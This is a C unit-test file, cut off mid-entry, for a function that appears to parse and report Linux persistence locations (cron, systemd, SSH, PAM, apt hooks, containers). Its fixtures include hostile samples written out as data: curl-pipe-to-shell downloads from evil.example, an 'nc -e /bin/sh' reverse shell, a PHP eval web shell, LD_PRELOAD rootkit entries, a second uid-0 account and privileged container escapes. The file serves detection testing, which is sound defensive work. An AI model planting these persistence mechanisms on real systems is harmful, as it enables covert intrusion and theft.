/* test_detail_item.c - unit tests of fh_detail_item(): the dispatch for all 59 types, the objects, the diff, hostile input, no hash ever output. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "common/common.h"
#include "persist/persist.h"

/* Real keys made with ssh-keygen; FP_* is what `ssh-keygen -lf` printed for each. */
#define KEY_A "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl a@b"
#define FP_A  "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU"
#define KEY_B                                                                               \
	"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM3Wp8GiYClFG3kMUa31CYvB35KRaUGG/ECGiKNHVysE " \
	"bob@laptop"
#define FP_B "SHA256:QRYsxf7EYaFFwVJ+W8r1PvjCBudGXGQjfBf3qs419iU"

/* ELF headers: ident, 8 bytes of padding, then e_type and e_machine. */
#define ELF64_DYN             \
	"\x7f"                \
	"ELF\x02\x01\x01\x00" \
	"\0\0\0\0\0\0\0\0"    \
	"\x03\x00\x3e\x00"
#define ELF64_REL             \
	"\x7f"                \
	"ELF\x02\x01\x01\x00" \
	"\0\0\0\0\0\0\0\0"    \
	"\x01\x00\x3e\x00"
#define ELF32_EXEC            \
	"\x7f"                \
	"ELF\x01\x01\x01\x00" \
	"\0\0\0\0\0\0\0\0"    \
	"\x02\x00\x03\x00"
#define ELF64_BE              \
	"\x7f"                \
	"ELF\x02\x02\x01\x00" \
	"\0\0\0\0\0\0\0\0"    \
	"\x00\x02\x00\x2b"
#define ELF_LEN 20

#define AT_JOB                                                                              \
	"#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\n"                         \
	"PATH=/usr/bin:/bin; export PATH\ncd /root || {\n\t echo 'Execution directory "     \
	"inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER6c1a3f7e'\n" \
	"nc -e /bin/sh 10.0.0.5 4444\n\nmarcinDELIMITER6c1a3f7e\n"

#define BASHRC "# ~/.bashrc\ncase $- in\n    *i*) ;;\n      *) return;;\nesac\nalias ll='ls -l'\n"

/*
 * One realistic item: its type, path, content (len bytes, or strlen when 0), the parser
 * chosen, up to two members (a dotted path, numbers index arrays) with their exact JSON,
 * and the exact object (NULL: none). nomatch: the path is not in the shipped catalog.
 */
struct item_case {
	const char *id, *path, *old, *text;
	size_t len;
	enum fh_detail_content kind;
	const char *parser, *at, *want, *at2, *want2, *object;
	bool nomatch;
};

#define FILE_(id, path, text, parser, at, want, at2, want2, object)                             \
	{                                                                                       \
		id, path, NULL, text, 0, FH_CONTENT_FILE, parser, at, want, at2, want2, object, \
		    false                                                                       \
	}
#define BIN(id, path, text, parser, at, want, at2, want2)                                     \
	{                                                                                     \
		id, path, NULL, text, ELF_LEN, FH_CONTENT_FILE, parser, at, want, at2, want2, \
		    NULL, false                                                               \
	}

static const struct item_case cases[] = {
	/* 1-6: cron and at */
	FILE_("cron-crontab", "/etc/crontab",
	      "SHELL=/bin/sh\n*/5 * * * * root /tmp/.x/run.sh >/dev/null 2>&1\n", "cron",
	      "entries.0.user", "\"root\"", "environment.0.name", "\"SHELL\"",
	      "/tmp/.x/run.sh >/dev/null 2>&1"),
	FILE_("cron-d", "/etc/cron.d/backdoor",
	      "* * * * * root curl -s http://evil.example/p | sh\n", "cron", "entries.0.schedule",
	      "\"* * * * *\"", "entries.0.line", "1", "curl -s http://evil.example/p | sh"),
	FILE_("cron-periodic", "/etc/cron.daily/logsync",
	      "#!/bin/sh\n# sync logs\nset -e\n\n/usr/bin/rsync -a /var/log/ backup:/logs/\n",
	      "script", "interpreter", "\"/bin/sh\"", "commands.1",
	      "{\"line\":5,\"text\":\"/usr/bin/rsync -a /var/log/ backup:/logs/\"}", "set -e"),
	FILE_("cron-user", "/var/spool/cron/crontabs/alice",
	      "@reboot /home/alice/.local/bin/agent --quiet\n", "cron-user", "entries.0.schedule",
	      "\"@reboot\"", "entries.0.user", "<absent>", "/home/alice/.local/bin/agent --quiet"),
	FILE_(
	    "cron-aux", "/etc/anacrontab",
	    "SHELL=/bin/sh\nPATH=/usr/bin\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n",
	    "anacrontab", "entries.0",
	    "{\"command\":\"run-parts --report /etc/cron.daily\",\"delay\":\"5\","
	    "\"job_id\":\"cron.daily\",\"line\":3,\"period\":\"1\"}",
	    "environment.1", "{\"line\":2,\"name\":\"PATH\",\"value\":\"/usr/bin\"}",
	    "run-parts --report /etc/cron.daily"),
	FILE_("cron-aux", "/etc/cron.allow", "root\n# staff\nalice\n", "text", "content.1",
	      "{\"line\":3,\"text\":\"alice\"}", "lines", "3", NULL),
	FILE_("at-job", "/var/spool/cron/atjobs/a0000101a2b3c4", AT_JOB, "script", "interpreter",
	      "\"/bin/sh\"", "commands.0.text", "\"umask 22\"", "nc -e /bin/sh 10.0.0.5 4444"),
	/* 7-13: systemd */
	FILE_("systemd-service", "/etc/systemd/system/updater.service",
	      "[Unit]\nDescription=Updater\n[Service]\nExecStartPre=/bin/true\n"
	      "ExecStart=/opt/updater/bin/run --daemon\nUser=root\n[Install]\n"
	      "WantedBy=multi-user.target\n",
	      "unit", "user", "\"root\"", "wanted_by", "[\"multi-user.target\"]",
	      "/opt/updater/bin/run --daemon"),
	FILE_("systemd-timer", "/etc/systemd/system/updater.timer", "[Timer]\nOnCalendar=hourly\n",
	      "unit", "timer.OnCalendar", "[\"hourly\"]", "unit_type", "\"timer\"",
	      "updater.service"),
	FILE_("systemd-timer", "/home/alice/.config/systemd/user/sync.timer",
	      "[Timer]\nOnBootSec=1min\nUnit=payload.service\n", "unit", "timer.Unit",
	      "\"payload.service\"", NULL, NULL, "payload.service"),
	{ "systemd-enable-link", "/etc/systemd/system/multi-user.target.wants/updater.service",
	  NULL, "/etc/systemd/system/updater.service", 0, FH_CONTENT_SYMLINK, "symlink", "target",
	  "\"/etc/systemd/system/updater.service\"", NULL, NULL,
	  "/etc/systemd/system/updater.service", false },
	FILE_("systemd-dropin", "/etc/systemd/system/ssh.service.d/override.conf",
	      "[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -o PermitRootLogin=yes\n", "unit",
	      "exec.0", "{\"key\":\"ExecStart\",\"line\":2,\"reset\":true}", "unit_type",
	      "\"dropin\"", "/usr/sbin/sshd -D -o PermitRootLogin=yes"),
	FILE_("systemd-user-unit", "/home/alice/.config/systemd/user/agent.service",
	      "[Service]\nExecStart=%h/.agent/run\n[Install]\nWantedBy=default.target\n", "unit",
	      "wanted_by", "[\"default.target\"]", NULL, NULL, "%h/.agent/run"),
	FILE_("systemd-user-unit", "/var/lib/systemd/linger/alice", "", "text", "lines", "0",
	      "content", "[]", NULL),
	FILE_("systemd-generator", "/etc/systemd/system-generators/zz-gen",
	      "#!/bin/bash\necho '[Service]' > \"$1/x.service\"\n", "script", "interpreter",
	      "\"/bin/bash\"", "lines", "2", "echo '[Service]' > \"$1/x.service\""),
	BIN("systemd-generator", "/usr/lib/systemd/system-generators/systemd-gpt-auto-generator",
	    ELF64_DYN, "binary", "format", "\"elf\"", "elf_type", "\"dyn\""),
	FILE_("systemd-env", "/etc/systemd/system.conf",
	      "[Manager]\n#LogLevel=info\nDefaultEnvironment=LD_PRELOAD=/usr/lib/libx.so\n",
	      "systemd_conf", "settings.0",
	      "{\"key\":\"DefaultEnvironment\",\"line\":3,\"section\":\"Manager\","
	      "\"value\":\"LD_PRELOAD=/usr/lib/libx.so\"}",
	      "errors", "[]", "LD_PRELOAD=/usr/lib/libx.so"),
	FILE_("systemd-env", "/etc/environment.d/90-x.conf", "LD_PRELOAD=/tmp/x.so\n", "env",
	      "risky", "[\"LD_PRELOAD\"]", NULL, NULL, "LD_PRELOAD=/tmp/x.so"),
	/* 14-16: SysV, rc.local, Upstart and inittab */
	FILE_("sysv-init", "/etc/init.d/netsvc",
	      "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: netsvc\n### END INIT INFO\n"
	      "case \"$1\" in\nstart) /usr/local/sbin/netsvc & ;;\nesac\n",
	      "script", "commands.1.text", "\"start) /usr/local/sbin/netsvc & ;;\"", "lines", "7",
	      "case \"$1\" in"),
	{ "sysv-init", "/etc/rc2.d/S01netsvc", NULL, "../init.d/netsvc", 0, FH_CONTENT_SYMLINK,
	  "symlink", "target", "\"../init.d/netsvc\"", NULL, NULL, "../init.d/netsvc", false },
	FILE_("rc-local", "/etc/rc.local", "#!/bin/sh -e\n/usr/local/bin/knock -d\nexit 0\n",
	      "script", "interpreter_arg", "\"-e\"", "commands.1.text", "\"exit 0\"",
	      "/usr/local/bin/knock -d"),
	FILE_("init-legacy", "/etc/init/agent.conf",
	      "description \"agent\"\nstart on runlevel [2345]\nrespawn\n"
	      "pre-start exec /bin/mkdir -p /run/agent\nexec /usr/sbin/agent --foreground\n"
	      "post-stop script\n  rm -rf /run/agent\nend script\n",
	      "upstart", "settings.1",
	      "{\"key\":\"exec\",\"line\":5,\"value\":\"/usr/sbin/agent --foreground\"}",
	      "settings.2",
	      "{\"key\":\"post-stop script\",\"line\":7,\"value\":\"rm -rf /run/agent\"}",
	      "/bin/mkdir -p /run/agent"),
	FILE_("init-legacy", "/etc/inittab",
	      "id:3:initdefault:\nx1:2345:respawn:/sbin/getty-ish /tmp/sh\nbad line\n", "inittab",
	      "entries.1.action", "\"respawn\"", "errors.0",
	      "{\"line\":3,\"message\":\"expected id:runlevels:action:process\"}",
	      "/sbin/getty-ish /tmp/sh"),
	/* 17-19: shells and environments */
	FILE_("shell-rc-system", "/etc/profile.d/zz.sh", "export PATH=/tmp/.bin:$PATH\n", "script",
	      "interpreter", "<absent>", "lines", "1", "export PATH=/tmp/.bin:$PATH"),
	{ "shell-rc-user", "/home/alice/.bashrc", BASHRC,
	  BASHRC "curl -fsSL http://evil.example/i.sh | bash\n", 0, FH_CONTENT_FILE, "script",
	  "diff.added", "[{\"line\":7,\"text\":\"curl -fsSL http://evil.example/i.sh | bash\"}]",
	  "diff.removed", "[]", "curl -fsSL http://evil.example/i.sh | bash", false },
	FILE_("env-file", "/etc/environment",
	      "LD_PRELOAD=/lib/x86_64-linux-gnu/libsnoopy.so\nLANG=C.UTF-8\n", "env",
	      "variables.1.name", "\"LANG\"", NULL, NULL,
	      "LD_PRELOAD=/lib/x86_64-linux-gnu/libsnoopy.so"),
	/* 20-22: the dynamic linker */
	FILE_("ld-preload", "/etc/ld.so.preload", "/usr/lib/libhide.so\n/lib/libz2.so\n",
	      "ld_preload", "libraries.1.path", "\"/lib/libz2.so\"", NULL, NULL,
	      "/usr/lib/libhide.so /lib/libz2.so"),
	FILE_("ld-so-conf", "/etc/ld.so.conf.d/zz.conf", "/usr/local/lib\n/dev/shm/lib\n",
	      "ld_so_conf", "directories.1.outside_system", "true", NULL, NULL, "/dev/shm/lib"),
	FILE_("ld-so-conf", "/etc/ld.so.cache", "glibc-ld.so.cache1.1", "binary", "magic",
	      "\"ld.so.cache\"", "format", "\"data\"", NULL),
	BIN("shared-object", "/usr/lib/x86_64-linux-gnu/libpam_misc.so.0", ELF64_DYN, "binary",
	    "elf_class", "64", "endian", "\"little\""),
	/* 23-28: ssh, sudo, accounts */
	{ "ssh-authorized-keys", "/home/alice/.ssh/authorized_keys", KEY_A "\n",
	  KEY_A "\n" KEY_B "\n", 0, FH_CONTENT_FILE, "authorized_keys", "keys.1.fingerprint",
	  "\"" FP_B "\"", "diff.added.0.line", "2", FP_B, false },
	FILE_("ssh-authorized-keys", "/root/.ssh/authorized_keys2", KEY_A "\n", "authorized_keys",
	      "keys.0.comment", "\"a@b\"", "diff", "<absent>", FP_A),
	FILE_("sshd-config", "/etc/ssh/sshd_config.d/99-x.conf",
	      "PermitRootLogin yes\nAuthorizedKeysCommand /usr/local/bin/keys %u\n"
	      "AuthorizedKeysCommandUser root\n",
	      "sshd_config", "settings.0.value", "\"yes\"", NULL, NULL, "/usr/local/bin/keys %u"),
	FILE_("ssh-rc", "/home/alice/.ssh/config",
	      "Host *\n  ProxyCommand sh -c 'nc %h %p; /tmp/.x'\n", "ssh_config", "settings.0",
	      "{\"key\":\"Host\",\"line\":1,\"value\":\"*\"}", NULL, NULL,
	      "sh -c 'nc %h %p; /tmp/.x'"),
	FILE_("ssh-rc", "/home/alice/.ssh/rc", "/tmp/.k &\n", "script", "lines", "1", NULL, NULL,
	      "/tmp/.k &"),
	FILE_("ssh-rc", "/home/alice/.ssh/environment", "LD_PRELOAD=/tmp/k.so\n", "env", "risky",
	      "[\"LD_PRELOAD\"]", NULL, NULL, "LD_PRELOAD=/tmp/k.so"),
	FILE_("sudoers", "/etc/sudoers.d/90-x", "alice ALL=(ALL) NOPASSWD: ALL\n", "sudoers",
	      "rules.0.nopasswd", "true", NULL, NULL, "ALL"),
	{ "account-db", "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n",
	  "root:x:0:0:root:/root:/bin/bash\nsys2:x:0:0::/:/bin/sh\n", 0, FH_CONTENT_FILE, "passwd",
	  "anomalies.0.what", "\"duplicate uid 0\"", "diff", "<absent>", NULL, false },
	FILE_("account-db", "/etc/group", "sudo:x:27:alice\n", "group", "added.0.name", "\"sudo\"",
	      NULL, NULL, NULL),
	{ "account-db", "/etc/subuid", "alice:100000:65536\n", "alice:100000:65536\nmallory:0:1\n",
	  0, FH_CONTENT_FILE, "text", "diff.added.0.text", "\"mallory:0:1\"", NULL, NULL, NULL,
	  false },
	FILE_("login-shells", "/etc/shells", "# valid login shells\n/bin/sh\n/bin/bash\n/tmp/.sh\n",
	      "text", "content.2.text", "\"/tmp/.sh\"", "lines", "4", NULL),
	/* 29-34: PAM, NSS, kernel modules */
	FILE_("pam-config", "/etc/pam.d/sshd",
	      "auth sufficient pam_exec.so quiet /usr/local/bin/pw.sh\n", "pam", "rules.0.control",
	      "\"sufficient\"", NULL, NULL, "pam_exec.so quiet /usr/local/bin/pw.sh"),
	FILE_("pam-config", "/etc/security/limits.conf", "*  hard  core  0\n", "text", "content.0",
	      "{\"line\":1,\"text\":\"*  hard  core  0\"}", NULL, NULL, NULL),
	BIN("pam-module", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so", ELF32_EXEC, "binary",
	    "elf_class", "32", "elf_type", "\"exec\""),
	FILE_("nss", "/etc/nsswitch.conf", "passwd: files evil\n", "nsswitch", "unusual.0.service",
	      "\"evil\"", NULL, NULL, "libnss_evil.so.2"),
	BIN("nss", "/usr/lib/x86_64-linux-gnu/libnss_evil.so.2", ELF64_BE, "binary", "endian",
	    "\"big\"", "elf_type", "\"exec\""),
	FILE_("lkm-autoload", "/etc/modules-load.d/x.conf", "diamorphine\nnf_tables\n",
	      "modules_load", "modules.0.name", "\"diamorphine\"", NULL, NULL,
	      "diamorphine nf_tables"),
	FILE_("modprobe-conf", "/etc/modprobe.d/x.conf",
	      "install usb-storage /bin/sh -c '/tmp/x; /sbin/modprobe --ignore-install "
	      "usb-storage'\n",
	      "modprobe", "install.0.module", "\"usb-storage\"", NULL, NULL,
	      "/bin/sh -c '/tmp/x; /sbin/modprobe --ignore-install usb-storage'"),
	BIN("kernel-module", "/lib/modules/6.1.0-18-amd64/extra/rk.ko", ELF64_REL, "binary",
	    "elf_type", "\"rel\"", "size", "20"),
	FILE_("kernel-module", "/lib/modules/6.1.0-18-amd64/kernel/net/x.ko.xz",
	      "\xfd\x37\x7a\x58\x5a", "binary", "format", "\"data\"", "magic", "<absent>", NULL),
	FILE_("kernel-module", "/lib/modules/6.1.0-18-amd64/modules.dep",
	      "kernel/net/x.ko.xz: kernel/net/y.ko.xz\n", "text", "lines", "1", NULL, NULL, NULL),
	/* 35-39: udev, autostart, X, motd, network hooks */
	FILE_("udev-rule", "/etc/udev/rules.d/99-x.rules",
	      "ACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/usr/local/bin/netup %k\"\n", "udev",
	      "rules.0.match", "[\"ACTION==\\\"add\\\"\",\"SUBSYSTEM==\\\"net\\\"\"]", NULL, NULL,
	      "/usr/local/bin/netup %k"),
	FILE_("xdg-autostart", "/home/alice/.config/autostart/upd.desktop",
	      "[Desktop Entry]\nType=Application\nName=Updater\nExec=/home/alice/.cache/upd "
	      "--silent\n",
	      "desktop", "type", "\"Application\"", NULL, NULL, "/home/alice/.cache/upd --silent"),
	FILE_("xdg-autostart", "/home/alice/.config/autostart-scripts/x.sh",
	      "#!/bin/bash\nnohup /home/alice/.x &\n", "script", "interpreter", "\"/bin/bash\"",
	      NULL, NULL, "nohup /home/alice/.x &"),
	FILE_("x-session", "/home/alice/.xsessionrc", "xset s off\n/home/alice/.x/agent &\n",
	      "script", "commands.1.text", "\"/home/alice/.x/agent &\"", NULL, NULL, "xset s off"),
	FILE_("motd", "/etc/update-motd.d/99-x", "#!/bin/sh\n/usr/bin/python3 /opt/.m.py &\n",
	      "script", "lines", "2", NULL, NULL, "/usr/bin/python3 /opt/.m.py &"),
	FILE_("net-hook", "/etc/NetworkManager/dispatcher.d/99-x",
	      "#!/bin/sh\n[ \"$2\" = up ] && /usr/local/sbin/beacon \"$1\"\n", "script", "lines",
	      "2", NULL, NULL, "[ \"$2\" = up ] && /usr/local/sbin/beacon \"$1\""),
	FILE_("net-hook", "/etc/network/interfaces",
	      "auto eth0\niface eth0 inet dhcp\n    post-up /usr/local/sbin/tun-up\n", "interfaces",
	      "settings.0", "{\"key\":\"iface\",\"line\":2,\"value\":\"eth0 inet dhcp\"}", NULL,
	      NULL, "/usr/local/sbin/tun-up"),
	/* 40-41: D-Bus and polkit */
	FILE_("dbus-service", "/usr/share/dbus-1/system-services/org.example.Helper.service",
	      "[D-BUS Service]\nName=org.example.Helper\nExec=/usr/libexec/example-helper "
	      "--system\nUser=root\nSystemdService=example-helper.service\n",
	      "dbus_service", "settings.2",
	      "{\"key\":\"User\",\"line\":4,\"section\":\"D-BUS Service\",\"value\":\"root\"}",
	      "settings.3.value", "\"example-helper.service\"",
	      "/usr/libexec/example-helper --system"),
	FILE_("dbus-service", "/etc/dbus-1/system.d/org.example.Helper.conf",
	      "<busconfig>\n  <policy context=\"default\">\n    <allow "
	      "send_destination=\"org.example.Helper\"/>\n  </policy>\n</busconfig>\n",
	      "xml_allow", "allow",
	      "[{\"line\":3,\"text\":\"<allow send_destination=\\\"org.example.Helper\\\"/>\"}]",
	      NULL, NULL, NULL),
	FILE_("polkit", "/etc/polkit-1/rules.d/49-x.rules",
	      "polkit.addRule(function(action, subject) {\n    if "
	      "(subject.isInGroup(\"wheel\")) {\n        return polkit.Result.YES;\n    }\n});\n",
	      "polkit_rules", "statements.0.what", "[\"addRule\"]", "statements.1",
	      "{\"line\":3,\"text\":\"return polkit.Result.YES;\",\"what\":[\"result_yes\"]}",
	      NULL),
	FILE_("polkit", "/usr/share/polkit-1/rules.d/50-x.rules",
	      "polkit.addRule(function(a, s) { polkit.spawn([\"/tmp/.p\"]); return "
	      "polkit.Result.YES; });\n",
	      "polkit_rules", "statements.0.what", "[\"addRule\",\"result_yes\",\"spawn\"]", NULL,
	      NULL,
	      "polkit.addRule(function(a, s) { polkit.spawn([\"/tmp/.p\"]); return "
	      "polkit.Result.YES; });"),
	FILE_("polkit", "/etc/polkit-1/localauthority/50-local.d/x.pkla",
	      "[Allow all]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\n", "pkla", "settings.2",
	      "{\"key\":\"ResultAny\",\"line\":4,\"section\":\"Allow all\",\"value\":\"yes\"}",
	      NULL, NULL, NULL),
	FILE_("polkit", "/usr/share/polkit-1/actions/org.example.policy",
	      "<action id=\"org.example.run\">\n  <defaults>\n    <allow_any>yes</allow_any>\n",
	      "xml_allow", "allow.0.line", "3", NULL, NULL, NULL),
	/* 42-43: package managers */
	FILE_("pkg-hook", "/etc/apt/apt.conf.d/99x",
	      "// keep\nDPkg::Post-Invoke {\"/bin/sh -c 'curl -s http://evil.example/p | sh'\";};\n"
	      "APT { Update { Pre-Invoke { \"touch /tmp/u\"; }; }; };\n",
	      "apt_conf", "hooks.1",
	      "{\"command\":\"touch /tmp/u\",\"key\":\"APT::Update::Pre-Invoke\",\"line\":3}",
	      "hooks.0.key", "\"DPkg::Post-Invoke\"",
	      "/bin/sh -c 'curl -s http://evil.example/p | sh'"),
	FILE_("pkg-hook", "/etc/apt/sources.list",
	      "deb http://deb.debian.org/debian bookworm main\n"
	      "deb [trusted=yes] http://evil.example/debian stable main\n",
	      "apt_sources", "repositories.1.uri", "\"http://evil.example/debian\"",
	      "insecure.0.line", "2", NULL),
	FILE_("pkg-hook", "/etc/apt/sources.list.d/x.sources",
	      "Types: deb\nURIs: http://evil.example/debian\nSuites: stable\nTrusted: yes\n",
	      "apt_sources", "repositories.0",
	      "{\"line\":2,\"type\":\"deb822\",\"uri\":\"http://evil.example/debian\"}",
	      "insecure.0.text", "\"Trusted: yes\"", NULL),
	FILE_("pkg-hook", "/etc/yum.repos.d/x.repo",
	      "[x]\nname=x\nbaseurl=http://evil.example/el9\ngpgcheck=0\n", "repo",
	      "settings.1.value", "\"0\"", "settings.0.section", "\"x\"", NULL),
	FILE_("pkg-hook", "/etc/pacman.d/hooks/x.hook",
	      "[Trigger]\nType = Package\nOperation = Upgrade\nTarget = *\n[Action]\n"
	      "When = PostTransaction\nExec = /usr/local/bin/implant\n",
	      "pacman_hook", "settings.0.value", "\"*\"", NULL, NULL, "/usr/local/bin/implant"),
	FILE_("pkg-maint-script", "/var/lib/dpkg/info/openssh-server.postinst",
	      "#!/bin/sh\nset -e\n#DEBHELPER#\nuseradd -o -u 0 sys2 || true\n", "script",
	      "commands.1.text", "\"useradd -o -u 0 sys2 || true\"", NULL, NULL, "set -e"),
	FILE_("pkg-maint-script", "/var/lib/dpkg/status",
	      "Package: openssh-server\nStatus: install ok installed\n", "text", "lines", "2", NULL,
	      NULL, NULL),
	/* 44-48: Python, git, GRUB, initramfs, cloud-init */
	FILE_("python-startup", "/usr/lib/python3/dist-packages/zz.pth",
	      "/opt/lib\nimport os; os.system('id > /tmp/p')\n", "pth", "paths.0.text",
	      "\"/opt/lib\"", NULL, NULL, "import os; os.system('id > /tmp/p')"),
	FILE_("python-startup", "/usr/lib/python3.11/sitecustomize.py",
	      "# site\nimport subprocess\nsubprocess.Popen(['/tmp/.s'])\n", "script", "lines", "3",
	      NULL, NULL, "import subprocess"),
	FILE_("git-hook", "/home/alice/.gitconfig",
	      "[core]\n\thooksPath = /tmp/.hooks\n[alias]\n\tst = status\n"
	      "\tup = \"!sh -c 'curl x | sh'\" ; run it\n[filter \"lfs\"]\n"
	      "\tclean = git-lfs clean -- %f\n",
	      "gitconfig", "settings.1",
	      "{\"key\":\"alias.up\",\"line\":5,\"section\":\"alias\",\"value\":\"!sh -c 'curl x | "
	      "sh'\"}",
	      "settings.2.key", "\"filter.lfs.clean\"", "/tmp/.hooks"),
	{ "git-hook", "/home/alice/src/app/.git/hooks/pre-commit", NULL,
	  "#!/bin/sh\nexec /tmp/.g \"$@\"\n", 0, FH_CONTENT_FILE, "script", "interpreter",
	  "\"/bin/sh\"", NULL, NULL, "exec /tmp/.g \"$@\"", true },
	FILE_("grub", "/etc/default/grub",
	      "GRUB_DEFAULT=0\nGRUB_TIMEOUT=5\nGRUB_CMDLINE_LINUX_DEFAULT=\"quiet init=/tmp/i\"\n",
	      "grub_default", "settings.0", "{\"key\":\"GRUB_DEFAULT\",\"line\":1,\"value\":\"0\"}",
	      "settings.1.value", "\"quiet init=/tmp/i\"", "quiet init=/tmp/i"),
	FILE_("grub", "/etc/grub.d/40_custom", "#!/bin/sh\nexec tail -n +3 $0\n", "script", "lines",
	      "2", NULL, NULL, "exec tail -n +3 $0"),
	FILE_("grub", "/boot/grub/grub.cfg",
	      "menuentry 'Debian' {\n\tlinux /vmlinuz root=/dev/sda1 ro init=/tmp/i\n"
	      "\tinitrd /initrd.img\n}\n",
	      "grub_cfg", "settings.2.key", "\"initrd\"", NULL, NULL,
	      "/vmlinuz root=/dev/sda1 ro init=/tmp/i"),
	FILE_("initramfs", "/etc/initramfs-tools/hooks/zz",
	      "#!/bin/sh\n. /usr/share/initramfs-tools/hook-functions\ncopy_exec /tmp/.i /bin\n",
	      "script", "commands.1.text", "\"copy_exec /tmp/.i /bin\"", NULL, NULL,
	      ". /usr/share/initramfs-tools/hook-functions"),
	FILE_("initramfs", "/boot/initrd.img-6.1.0-18-amd64", "\x28\xb5\x2f\xfd\x04", "binary",
	      "magic", "\"zstd\"", NULL, NULL, NULL),
	FILE_("cloud-init", "/etc/cloud/cloud.cfg.d/99-x.cfg",
	      "#cloud-config\nbootcmd:\n  - echo boot > /tmp/b\nruncmd:\n"
	      "  - [ sh, -c, \"curl x | sh\" ]\n  - touch /tmp/done\nusers: []\n",
	      "cloud_init", "header", "\"#cloud-config\"", "settings.1",
	      "{\"key\":\"runcmd\",\"line\":5,\"value\":\"[ sh, -c, \\\"curl x | sh\\\" ]\"}",
	      "echo boot > /tmp/b"),
	FILE_("cloud-init", "/var/lib/cloud/scripts/per-boot/x.sh", "#!/bin/sh\n/tmp/.c\n",
	      "script", "lines", "2", NULL, NULL, "/tmp/.c"),
	/* 49-52 */
	FILE_("tmpfiles", "/etc/tmpfiles.d/x.conf", "w+ /etc/ld.so.preload - - - - /tmp/x.so\n",
	      "tmpfiles", "risky.0.why", "\"writes into /etc at every boot\"", NULL, NULL,
	      "/tmp/x.so"),
	FILE_("sysctl-helper", "/etc/sysctl.d/99-x.conf", "kernel.core_pattern=|/tmp/.core %p\n",
	      "sysctl", "risky.0.key", "\"kernel.core_pattern\"", NULL, NULL, "|/tmp/.core %p"),
	FILE_("binfmt", "/etc/binfmt.d/x.conf", ":evil:M::MZ::/tmp/interp:OC\n", "binfmt",
	      "entries.0.credentials", "true", NULL, NULL, "/tmp/interp"),
	FILE_("logrotate", "/etc/logrotate.d/x",
	      "/var/log/x.log {\n  daily\n  postrotate\n    /tmp/.x/run >/dev/null\n  "
	      "endscript\n}\n",
	      "logrotate", "scripts.0.directive", "\"postrotate\"", NULL, NULL,
	      "/tmp/.x/run >/dev/null"),
	/* 53-55: mail, incron, containers */
	FILE_("mail-pipe", "/etc/aliases",
	      "postmaster: root\nsupport: \"|/usr/local/bin/ticket --new\", alice\n"
	      "list: :include:/etc/mail/list.txt\nkeys:\n  /root/.ssh/authorized_keys\n",
	      "aliases", "pipes.0",
	      "{\"command\":\"/usr/local/bin/ticket --new\",\"line\":2,\"name\":\"support\"}",
	      "files.0", "{\"line\":5,\"name\":\"keys\",\"path\":\"/root/.ssh/authorized_keys\"}",
	      "/usr/local/bin/ticket --new"),
	FILE_("mail-pipe", "/home/alice/.forward", "\\alice, \"|/usr/bin/procmail -t\"\n",
	      "forward", "pipes.0.name", "<absent>", "includes", "[]", "/usr/bin/procmail -t"),
	FILE_("incron", "/etc/incron.d/x", "/etc/passwd IN_MODIFY /usr/local/bin/alert $@\n",
	      "incron", "entries.0.mask", "\"IN_MODIFY\"", NULL, NULL, "/usr/local/bin/alert $@"),
	FILE_("container", "/etc/containers/systemd/web.container",
	      "[Unit]\nDescription=web\n[Container]\nImage=docker.io/library/nginx:latest\n"
	      "Volume=/:/host\nPodmanArgs=--privileged\nExec=/bin/sh -c 'sleep inf'\n",
	      "quadlet", "settings.1",
	      "{\"key\":\"Volume\",\"line\":5,\"section\":\"Container\",\"value\":\"/:/host\"}",
	      "settings.2.value", "\"--privileged\"",
	      "docker.io/library/nginx:latest /bin/sh -c 'sleep inf'"),
	FILE_("container", "/etc/kubernetes/manifests/x.yaml",
	      "apiVersion: v1\nkind: Pod\nspec:\n  hostPID: true\n  containers:\n  - name: x\n"
	      "    image: alpine\n    command: [\"nsenter\", \"-t\", \"1\", \"-a\", \"sh\"]\n"
	      "    securityContext:\n      privileged: true\n",
	      "compose", "settings.0", "{\"key\":\"hostPID\",\"line\":4,\"value\":\"true\"}",
	      "settings.3.key", "\"privileged\"", "[\"nsenter\", \"-t\", \"1\", \"-a\", \"sh\"]"),
	FILE_("container", "/var/lib/docker/containers/0a1b/config.v2.json",
	      "{\"Path\":\"/bin/sh\",\"Args\":[\"-c\",\"nc -l 4444\"],"
	      "\"Config\":{\"Image\":\"alpine\",\"Cmd\":[\"/bin/sh\",\"-c\",\"nc -l 4444\"]}}",
	      "docker_json", "settings.2", "{\"key\":\"Config.Image\",\"value\":\"alpine\"}",
	      "command", "\"/bin/sh -c nc -l 4444\"", "/bin/sh -c nc -l 4444"),
	/* 56-59 */
	FILE_("web-shell", "/var/www/html/up.php", "<?php @eval($_POST['c']); ?>\n", "text",
	      "content.0.text", "\"<?php @eval($_POST['c']); ?>\"", NULL, NULL, NULL),
	FILE_("system-binary", "/usr/local/bin/sudo", "#!/bin/sh\n/usr/bin/sudo.real \"$@\"\n",
	      "binary", "format", "\"script\"", "interpreter", "\"/bin/sh\"",
	      "/usr/bin/sudo.real \"$@\""),
	BIN("system-binary", "/usr/bin/ls", ELF64_DYN, "binary", "format", "\"elf\"", NULL, NULL),
	{ "suid-cap", "/usr/local/bin/findx", NULL, ELF64_DYN, ELF_LEN, FH_CONTENT_FILE, "binary",
	  "elf_class", "64", NULL, NULL, NULL, true },
	FILE_("tool-rc", "/home/alice/.vimrc",
	      "\" settings\nset number\nautocmd VimEnter * silent !/tmp/.v &\n", "script",
	      "commands.1.text", "\"autocmd VimEnter * silent !/tmp/.v &\"", NULL, NULL,
	      "set number"),
	FILE_("tool-rc", "/home/alice/.emacs", ";; init\n(shell-command \"/tmp/.e &\")\n", "script",
